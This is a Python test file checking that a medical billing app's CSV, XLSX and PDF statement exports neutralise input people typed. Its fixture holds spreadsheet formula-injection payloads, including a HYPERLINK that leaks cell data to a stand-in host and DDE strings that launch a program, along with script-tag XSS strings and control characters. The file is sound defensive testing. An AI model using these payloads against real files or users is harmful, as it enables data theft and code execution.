"""The bad-input catalogue, export surface: what people typed (names, site names, notes) reaches the CPAM's CSV,
XLSX and PDF inert — formulas neutralised in every text cell, control characters unable to break a file, markup
printed as text."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from billing.exports.background import run_export
from billing.services import generate_statement
from missions.models import Booking
from tests import factories as f

pytestmark = pytest.mark.django_db

LAST_MONTH = (datetime.date.today().replace(day=1) - datetime.timedelta(days=1)).replace(day=1)

FORMULAS = [
    '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.fixture
def hostile_statement(zone, ars_staff, flat_rate):
    """A statement whose every text cell people could have typed starts with a formula or holds odd text."""
    site = f.HostSiteFactory(zone=zone, name="=cmd|'/C calc'!A0", address="+33 rue <b>gras</b>")
    doctors = []
    for n, formula in enumerate(FORMULAS):
        doctor = f.DoctorFactory(last_name=formula, first_name=f"<script>alert({n})</script>", zones=[zone])
        doctors.append(doctor)
        f.BookingFactory(
            doctor=doctor,
            slot=f.SlotFactory(site=site, date=LAST_MONTH + datetime.timedelta(days=n)),
            status=Booking.Status.COMPLETED,
            consultations=3,
        )
    control = f.DoctorFactory(
        last_name="Bell\x07e\x1bEsc\x0bVT\x7fDel\u202eRTL",
        first_name="Ünï 😀 𠀋",
        practice_commune=doctors[0].practice_commune,
        zones=[zone],
    )
    f.BookingFactory(
        doctor=control,
        slot=f.SlotFactory(site=site, date=LAST_MONTH + datetime.timedelta(days=20)),
        status=Booking.Status.COMPLETED,
        consultations=3,
    )
    cpam = f.CpamFactory(department=doctors[0].practice_department)
    for doctor in doctors[1:]:
        doctor.practice_department = cpam.department
        doctor.save()
    statement = generate_statement(cpam, LAST_MONTH, by=ars_staff)
    assert statement.line_count == len(FORMULAS) + 1
    return statement


def download(client, ars_staff, statement, kind):
    client.force_login(ars_staff)
    response = client.get(f"/api/v1/statements/{statement.pk}/{kind}/")
    if response.status_code == 202:  # XLSX, PDF: the job started; the test plays the worker, then asks again
        assert run_export(response.json()["id"]) == "ready"
        response = client.get(f"/api/v1/statements/{statement.pk}/{kind}/")
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_cells_never_start_a_formula(client, ars_staff, hostile_statement):
    content = download(client, ars_staff, hostile_statement, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), repr(cell)
        if cell.startswith("-"):  # a negative amount is a number, not a formula
            assert cell.lstrip("-").replace(",", "").replace(" ", "").isdigit(), repr(cell)
    for formula in FORMULAS:
        assert f"'{formula}" in cells


def test_xlsx_text_cells_never_hold_a_formula_and_odd_characters_do_not_break_it(client, ars_staff, hostile_statement):
    workbook = load_workbook(io.BytesIO(download(client, ars_staff, hostile_statement, "xlsx")))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert texts
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    for formula in FORMULAS:
        assert any(text == f"'{formula}" or text.endswith(formula.strip()) for text in texts), formula
    assert any("Ünï 😀 𠀋" in text for text in texts)
    assert any(text.startswith("Bell\ufffde\ufffdEsc") for text in texts)  # control characters made visible


def test_pdf_prints_markup_as_text_and_survives_control_characters(client, ars_staff, hostile_statement):
    reader = PdfReader(io.BytesIO(download(client, ars_staff, hostile_statement, "pdf")))
    text = " ".join(page.extract_text() for page in reader.pages)
    for n in range(1, len(FORMULAS)):
        assert f"<script>alert({n})</script>" in text  # printed as typed, not interpreted nor double-escaped
    assert "&lt;" not in text
    assert "=cmd|'/C calc'!A0" in text  # a PDF runs no formula: shown as typed
